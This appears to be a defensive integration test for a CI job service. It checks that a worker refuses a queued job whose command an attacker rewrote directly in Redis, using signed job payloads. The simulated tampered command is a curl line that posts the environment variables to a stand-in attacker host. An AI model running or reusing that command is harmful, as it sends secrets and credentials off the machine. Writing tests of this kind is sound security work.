/**
 * Someone who can write to Redis (a compromised sandbox on an open network, a leaked password) rewrites a
 * waiting job so that another tenant's sandbox runs their command. The API signs every job; the worker
 * refuses one whose data changed. A private redis-server, the real API and the real worker, in-process.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { QueueEvents } from 'bullmq';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '@ci-fixer/config';
import { QUEUE_NAME, QUEUE_PREFIX } from '@ci-fixer/queue';
import { startApi, type RunningApi } from '../../apps/api/src/server.ts';
import { startWorker, type RunningWorker } from '../../apps/worker/src/worker.ts';
import { captureLogger } from '../support/logger.ts';
import { startTestRedis, type TestRedis } from '../support/redis.ts';
import { AttackTable } from './attack-table.ts';

const TOKEN = 'signature-test-token-0123456789';
const KEY = 'k'.repeat(64);
const table = new AttackTable('any driver');

describe('job payloads signed by the API', () => {
  let redisServer: TestRedis;
  let redisUrl: string;
  let api: RunningApi;
  let worker: RunningWorker | undefined;
  let events: QueueEvents;
  let redis: Redis;
  let repo: string;

  beforeAll(async () => {
    redisServer = await startTestRedis();
    redisUrl = redisServer.url;
    redis = new Redis(redisUrl, { maxRetriesPerRequest: null });
    await redis.ping();
    repo = mkdtempSync(path.join(os.tmpdir(), 'cif-sig-repo-'));
    execFileSync(
      'sh',
      ['-c', 'git init -q . && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m init'],
      {
        cwd: repo,
      },
    );
    const config = loadConfig({
      NODE_ENV: 'test',
      REDIS_URL: redisUrl,
      PORT: '0',
      CI_FIXER_ALLOW_FILE_REPOS: 'true',
      CI_FIXER_JOB_SIGNING_KEY: KEY,
    });
    api = await startApi(config, TOKEN, captureLogger().logger);
    events = new QueueEvents(QUEUE_NAME, { connection: { url: redisUrl }, prefix: QUEUE_PREFIX });
    await events.waitUntilReady();
  });

  afterAll(async () => {
    await worker?.stop();
    await events?.close();
    await api?.close();
    redis?.disconnect();
    await redisServer?.stop();
    table.flush();
  });

  const submit = async (command: string) => {
    const response = await fetch(`${api.url}/v1/fix-jobs`, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ repo: { url: repo }, command }),
    });
    expect(response.status).toBe(202);
    return ((await response.json()) as { id: string }).id;
  };

  it('refuses a job whose command was rewritten in Redis, and runs the untouched one', async () => {
    const genuine = await submit('true');
    const tampered = await submit('echo tenant command');
    // The attacker's edit: the waiting job's data, straight in Redis.
    const key = `${QUEUE_PREFIX}:${QUEUE_NAME}:${tampered}`;
    const data = JSON.parse((await redis.hget(key, 'data'))!) as { request: { command: string } };
    data.request.command = 'curl -sd "$(env)" attacker.invalid';
    await redis.hset(key, 'data', JSON.stringify(data));

    const sandboxes = mkdtempSync(path.join(os.tmpdir(), 'cif-sig-sandboxes-'));
    const workerConfig = loadConfig({
      NODE_ENV: 'test',
      REDIS_URL: redisUrl,
      CI_FIXER_ALLOW_FILE_REPOS: 'true',
      CI_FIXER_JOB_SIGNING_KEY: KEY,
      SANDBOX_LOCAL_ROOT: sandboxes,
      SANDBOX_EGRESS_ALLOW: '127.0.0.1:9',
      WORKER_METRICS_PORT: '0',
      JOB_ATTEMPTS: '1',
    });
    const finished = (id: string) =>
      new Promise<{ ok: boolean; detail: string }>((resolve) => {
        const done = ({ jobId, returnvalue }: { jobId: string; returnvalue: unknown }) =>
          jobId === id && resolve({ ok: true, detail: JSON.stringify(returnvalue) });
        const failed = ({ jobId, failedReason }: { jobId: string; failedReason: string }) =>
          jobId === id && resolve({ ok: false, detail: failedReason });
        events.on('completed', done);
        events.on('failed', failed);
      });
    const genuineEnd = finished(genuine);
    const tamperedEnd = finished(tampered);
    worker = await startWorker(workerConfig, captureLogger().logger);

    const refused = await tamperedEnd;
    expect(refused.ok).toBe(false);
    expect(refused.detail).toMatch(/job refused: the job signature does not match its data/);
    const ran = await genuineEnd;
    expect(ran.ok).toBe(true);
    expect(ran.detail).toContain('not_reproducible');
    table.record('rewrite a waiting job in Redis', 'blocked');
  });
});
